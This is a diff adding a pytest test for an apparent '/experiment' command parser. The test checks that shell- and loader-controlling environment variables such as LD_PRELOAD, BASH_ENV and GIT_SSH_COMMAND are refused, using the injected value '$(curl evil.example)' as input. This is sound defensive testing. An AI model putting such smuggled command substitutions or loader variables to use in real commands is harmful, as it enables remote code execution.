@@ -106,6 +106,19 @@ def test_what_cannot_be_is_refused_with_a_reason() -> None:
     assert "one branch" in misunderstood("/experiment compare")
 
 
+@pytest.mark.parametrize(
+    "name",
+    ["BASH_ENV", "ENV", "PS4", "PATH", "LD_PRELOAD", "PYTHONPATH", "GIT_SSH_COMMAND", "https_proxy", "OMPI_MCA_x"],
+)
+def test_no_variable_of_a_command_tells_a_shell_or_a_loader_what_to_run(name: str) -> None:
+    assert "only the config may set it" in misunderstood(f"/experiment run {name}='$(curl evil.example)'")
+    assert only("/experiment run LR=0.1 PATIENCE=3 ENVIRONMENT=test").settings == {
+        "LR": "0.1",
+        "PATIENCE": "3",
+        "ENVIRONMENT": "test",
+    }
+
+
 def test_a_comment_of_many_commands_is_taken_in_part_and_says_so() -> None:
     found = find("/experiment status\n" * 9)
     assert len(found) == MOST_COMMANDS + 1
